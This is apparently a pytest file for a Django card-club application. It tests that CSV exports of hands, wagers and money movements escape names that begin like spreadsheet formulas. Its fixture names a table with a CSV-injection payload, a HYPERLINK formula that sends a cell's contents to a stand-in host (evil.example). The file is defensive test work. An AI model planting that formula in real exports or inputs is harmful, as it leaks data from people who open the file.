"""The admin's CSV exports (the hands, the wagers, the money) opened in the secretary's
spreadsheet: a name a member chose that begins like a formula (=, +, -, @, a tab, a carriage
return) is a text there, never a formula that runs (OWASP, "CSV Injection"): it is written with
a ' before it, and every cell is quoted, so that no separator or quote in a name starts a cell
of its own. An amount stays a number: "-10.00" is written as it is."""
import csv
import io
import re

import pytest

from club.models import ApiToken, Player
from games.models import Movement, Table, Wager
from tests.games.kit import MONEY, WAGERS, Api, member, players, win_game

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"open")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]{2})?")


@pytest.fixture
def evening(client, secretary) -> dict:
    """An English pool named LEAK, its players named "+Athos", "-Porthos" and "@Aramis":
    "-Charles" (login "-charles") offers 10.00 on +Athos at 2:1, "@Dora" (login "@dora") lays
    8.00 to 4.00 of it, and -Porthos wins the unit."""
    api = Api(client, ApiToken.objects.create(user=secretary).key)
    athos, porthos, aramis = players("+Athos", "-Porthos", "@Aramis")
    (charles_api, _), (dora_api, _) = member(client, "-Charles"), member(client, "@Dora")
    table = api.post("/tables", {"name": LEAK, "format": "pool", "wager_style": "english",
                                 "players": [athos.pk, porthos.pk, aramis.pk],
                                 "first_dealer": porthos.pk}).json()
    offer = charles_api.post(f"/tables/{table['id']}/wagers",
                             {"on": athos.pk, "stake": "10.00", "odds": "2:1"}).json()
    assert dora_api.post(f"/wagers/{offer['id']}/take", {"stake": "4.00"}).status_code == 201
    win_game(api, table, porthos.pk)
    return {"table": Table.objects.get(pk=table["id"])}


def exported(client, url: str, selected) -> tuple[str, list[dict]]:
    """The CSV the admin's action downloads: its text, and its rows by column."""
    text = client.post(url, {"action": "export_csv", "_selected_action": list(selected)})
    text = text.content.decode()
    return text, list(csv.DictReader(io.StringIO(text)))


def formulas(rows: list[dict]) -> list[str]:
    """The cells a spreadsheet would run: each begins like a formula and is no number."""
    return [cell for row in rows for cell in row.values()
            if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)]


def test_the_hands_export_writes_a_table_and_players_named_like_formulas_as_text(
        staff_client, evening):
    text, rows = exported(staff_client, "/admin/games/table/", [evening["table"].pk])

    assert formulas(rows) == []
    assert {row["table_name"] for row in rows} == {"'" + LEAK}
    assert {row["elder"] for row in rows} | {row["dealer"] for row in rows} == {
        "'+Athos", "'-Porthos"}
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&B2,""open"")"' in text


def test_the_wagers_export_writes_names_as_text_and_amounts_as_numbers(staff_client, evening):
    text, [row] = exported(staff_client, WAGERS, Wager.objects.values_list("pk", flat=True))

    assert formulas([row]) == []
    assert (row["table_name"], row["bettor"], row["on"], row["placed_by"]) == (
        "'" + LEAK, "'-Charles", "'+Athos", "'-charles")
    assert row["takes"] == "'@Dora lays 8.00 to 4.00"
    assert (row["outcome"], row["bettor_net"], row["layers_net"]) == (
        "lost", "-4.00", "'@Dora 4.00")
    assert '"-4.00"' in text  # quoted as every cell, no ' before it: a number


def test_the_money_export_writes_names_as_text_and_amounts_as_numbers(staff_client, evening):
    _, rows = exported(staff_client, MONEY, Movement.objects.values_list("pk", flat=True))

    assert formulas(rows) == []
    assert {row["table_name"] for row in rows} == {"'" + LEAK}
    assert {row["made_by"] for row in rows} >= {"'-charles", "'@dora"}
    stake = next(row for row in rows if row["kind"] == "wager_stake"
                 and row["player"] == "'-Charles")
    assert stake["amount"] == "-10.00"


def test_a_name_the_database_holds_beginning_with_a_tab_or_a_return_is_text(
        staff_client, evening):
    """Names the club's services refuse, but a database edited by hand may hold."""
    Player.objects.filter(name="+Athos").update(name="\t+Athos")
    Player.objects.filter(name="-Porthos").update(name="\r-Porthos")

    _, rows = exported(staff_client, "/admin/games/table/", [evening["table"].pk])

    assert formulas(rows) == []
    assert {row["elder"] for row in rows} | {row["dealer"] for row in rows} == {
        "'\t+Athos", "'\r-Porthos"}
